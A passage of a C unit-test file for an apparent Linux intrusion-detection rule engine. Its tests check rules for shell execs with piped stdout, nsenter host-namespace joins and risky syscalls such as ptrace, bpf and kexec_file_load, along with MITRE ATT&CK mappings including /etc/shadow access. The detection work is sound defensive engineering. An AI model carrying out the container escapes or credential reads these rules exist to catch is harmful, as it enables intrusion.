			f.rec.parent.tgid++;
		t.rec[0].key.start_ns = 100;
		t.rec[0].exit_ns = 200;
		t.rec[0].flags |= VG_PF_STDIO_SEEN;
		t.rec[0].stdout_pipe = 77;
		t.m.procs = fake_procs;
		t.m.procs_ctx = &f;
		t.m.undecided = &undecided;
		got = vg_rule_matches(r, &t.m);
		t_match_free(&t);
		if (got != cases[i].want || undecided != cases[i].undecided)
			fail_msg("records by pipe: %s: %s, %s", cases[i].why,
				 got ? "matched" : "did not match", undecided ? "undecided" : "decided");
	}
	/* stdout not a pipe at exec: decided at once, nothing walked */
	{
		struct fake_proc f = { .exe = "/usr/bin/dash", .argv = "sh" };
		struct t_match t;
		bool undecided = false;

		f.rec.exec_ns = 160;
		f.rec.flags = VG_PF_STDIO_SEEN;
		t_match_build(&t, &op);
		t.rec[0].flags |= VG_PF_STDIO_SEEN;
		t.m.procs = fake_procs;
		t.m.procs_ctx = &f;
		t.m.undecided = &undecided;
		assert_false(vg_rule_matches(r, &t.m));
		assert_false(undecided);
		t_match_free(&t);
	}
}

/* host_namespace: where the caller came from is its record (as at fork), whatever its parent. */
static void test_host_namespace_from_record(void **state)
{
	const struct vg_rule *r = vg_rules_find(defaults, "host-namespace-joined");
	struct t_op op = { SYS("/usr/bin/nsenter", 308), .args = { 3, 0x04000000 } };
	char link[64];
	unsigned long host = 0;
	ssize_t n = readlink("/proc/self/ns/uts", link, sizeof(link) - 1);
	struct t_match t;

	assert_non_null(r);
	assert_true(n > 0);
	link[n] = 0;
	assert_int_equal(sscanf(link, "uts:[%lu]", &host), 1);
	/* the parent (pid 900001) does not exist: only the record can tell */
	t_match_build(&t, &op);
	t.rec[0].ns_uts = host + 1;
	assert_true(vg_rule_matches(r, &t.m));
	t_match_free(&t);
	t_match_build(&t, &op);
	t.rec[0].ns_uts = host; /* it started in the host's: going back is not an escape */
	assert_false(vg_rule_matches(r, &t.m));
	t_match_free(&t);
}

/* One row: the rule matches (trigger) or not (near-miss); a trigger must also
 * be a kernel candidate: what user space reports, the kernel must have sent. */
static void test_row(void **state)
{
	const struct row *row = *state;
	const struct vg_rule *r = vg_rules_find(defaults, row->rule);
	char path[128];
	struct t_op op = row_op(row, path, sizeof(path));
	struct t_match t;
	bool got, disabled;

	assert_non_null(r);
	/* a rule off by default is checked as a user who turns it on would use it */
	disabled = !r->enabled;
	((struct vg_rule *)r)->enabled = true;
	got = vg_rule_matches(r, t_match_build(&t, &op));
	((struct vg_rule *)r)->enabled = !disabled;
	t_match_free(&t);
	if (got != row->want)
		fail_msg("%s: %s (%s) %s", row->rule, row->want ? "trigger" : "near-miss", row->why,
			 got ? "matched" : "did not match");
	if (row->want && !disabled && !t_kernel_flags(&tables, r, &op))
		fail_msg("%s: trigger (%s) is not a kernel candidate", row->rule, row->why);
}

/* The kernel tables keep a plain operation away from user space: a benign
 * build's typical operations are candidates of few rules (cheap to finish). */
static void test_kernel_filters_benign_work(void **state)
{
	static const struct t_op ops[] = {
		{ FOP("/usr/bin/x86_64-linux-gnu-gcc-12", "/home/u/p/main.o", VG_FA_WRITE | VG_FA_CREATE) },
		{ FOP("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/include/stdio.h", R) },
		{ FOP("/usr/bin/python3.11", "/usr/lib/python3.11/os.py", R) },
		{ FOP("/usr/bin/git", "/tmp/p/.git/objects/ab/cdef", VG_FA_CREATE | VG_FA_WRITE) },
		{ FOP("/usr/bin/tar", "/tmp/p/out.tgz", VG_FA_CREATE | VG_FA_WRITE) },
		{ FOP("/usr/bin/dpkg", "/usr/bin/hello", VG_FA_RENAME_TO) },
		{ FOP("/usr/bin/dpkg", "/var/lib/dpkg/status", VG_FA_RENAME_TO) },
		{ EXEC("/usr/bin/make", "make"), PARENT("/usr/bin/bash", "bash") },
		{ EXEC("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1"), PARENT("/usr/bin/gcc", "gcc") },
		{ EXEC("/usr/bin/sha256sum", "sha256sum\tout.tgz"), PARENT("/usr/bin/bash", "bash") },
	};

	for (size_t i = 0; i < sizeof(ops) / sizeof(ops[0]); i++) {
		struct vg_rbits c = t_kernel_candidates(&tables, 0, &ops[i]);
		struct t_match t;
		int n = 0;

		for (unsigned b = 0; b < VG_RULES_MAX; b++) {
			const struct vg_rule *r;

			if (!t_rbit(&c, b))
				continue;
			n++;
			r = vg_rules_by_bit(defaults, ops[i].kind, b);
			/* a candidate is fine, a finding is not */
			if (vg_rule_matches(r, t_match_build(&t, &ops[i])))
				fail_msg("benign op %zu (%s %s) matches %s", i, ops[i].self.exe,
					 ops[i].path ? ops[i].path : "", r->id);
			t_match_free(&t);
		}
		/* exec: argv-only rules see every exec (scan_all); files: at most a few */
		if (ops[i].kind == VG_RK_FILE && n > 2)
			fail_msg("benign op %zu (%s) is a candidate of %d rules", i, ops[i].path, n);
	}
}

/* The syscall names rules use map to this machine's x86_64 numbers. */
static void test_syscall_table(void **state)
{
	static const struct {
		const char *name;
		long nr;
	} known[] = {
		{ "ptrace", SYS_ptrace },	    { "process_vm_readv", SYS_process_vm_readv },
		{ "process_vm_writev", SYS_process_vm_writev }, { "init_module", SYS_init_module },
		{ "finit_module", SYS_finit_module }, { "bpf", SYS_bpf },
		{ "socket", SYS_socket },	    { "setuid", SYS_setuid },
		{ "memfd_create", SYS_memfd_create }, { "mount", SYS_mount },
		{ "unshare", SYS_unshare },	    { "setns", SYS_setns },
		{ "kill", SYS_kill },		    { "capset", SYS_capset },
		{ "execveat", SYS_execveat },	    { "openat2", SYS_openat2 },
		{ "pidfd_getfd", SYS_pidfd_getfd }, { "kexec_file_load", SYS_kexec_file_load },
	};
	const char *const *names;
	const uint32_t *nrs;
	size_t n = vg_syscall_table(&names, &nrs);
	uint64_t v;
	int found;

	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		assert_int_equal(vg_syscall_nr(known[i].name), known[i].nr);
	assert_true(n > 350);
	assert_int_equal(vg_syscall_nr("no_such_call"), -1);
	assert_string_equal(vg_syscall_name(101), "ptrace");
	/* named arguments */
	assert_int_equal(vg_syscall_named_arg("request", "PTRACE_SEIZE", &v, &found), 0);
	assert_true(found);
	assert_int_equal(v, 0x4206);
	vg_syscall_named_arg("request", "0x10", &v, &found);
	assert_true(found);
	assert_int_equal(v, 16);
	vg_syscall_named_arg("family", "AF_PACKET", &v, &found);
	assert_int_equal(v, 17);
	vg_syscall_named_arg("cmd", "BPF_PROG_LOAD", &v, &found);
	assert_int_equal(v, 5);
	assert_int_equal(vg_syscall_named_arg("nope", "x", &v, &found), -1);
}

static void test_mitre_table(void **state)
{
	assert_string_equal(vg_mitre_tactic_name("TA0002"), "Execution");
	assert_string_equal(vg_mitre_tactic_name("TA0040"), "Impact");
	assert_null(vg_mitre_tactic_name("TA9999"));
	assert_string_equal(vg_mitre_technique_name("T1059.004"), "Unix Shell");
	assert_string_equal(vg_mitre_technique_name("T1003.008"), "/etc/passwd and /etc/shadow");
	assert_null(vg_mitre_technique_name("T1059.999"));
	/* sub-techniques inherit their parent's tactics */
	assert_string_equal(vg_mitre_technique_tactics("T1053.003"), "TA0002,TA0003,TA0004");
	assert_string_equal(vg_mitre_technique_tactics("T1611"), "TA0004");
	assert_string_equal(vg_severity_name(VG_SEV_CRITICAL), "critical");
	assert_string_equal(vg_rule_kind_name(VG_RK_SYSCALL), "syscall");
}

int main(void)
{
	static const struct CMUnitTest fixed[] = {
		cmocka_unit_test(test_defaults_load),
		cmocka_unit_test(test_table_covers_every_rule),
		cmocka_unit_test(test_pipe_records_by_timing),
		cmocka_unit_test(test_pipe_records_by_pipe),
		cmocka_unit_test(test_host_namespace_from_record),
		cmocka_unit_test(test_kernel_filters_benign_work),
		cmocka_unit_test(test_syscall_table),
		cmocka_unit_test(test_mitre_table),
	};
	size_t nfixed = sizeof(fixed) / sizeof(fixed[0]), n = nfixed + NROWS;
	struct CMUnitTest *tests = calloc(n, sizeof(*tests));
	char **names = calloc(NROWS, sizeof(*names));
	int rc;

	memcpy(tests, fixed, sizeof(fixed));
	for (size_t k = 0; k < NROWS; k++) {
		if (asprintf(&names[k], "%s %s: %s", rows[k].rule, rows[k].want ? "fires" : "quiet",
			     rows[k].why) < 0)
			return 1;
		tests[nfixed + k] = (struct CMUnitTest){ .name = names[k], .test_func = test_row,
							 .initial_state = (void *)&rows[k] };
	}
	rc = _cmocka_run_group_tests("rules_default", tests, n, setup, teardown);
	for (size_t k = 0; k < NROWS; k++)
		free(names[k]);
	free(names);
	free(tests);
	return rc;
}
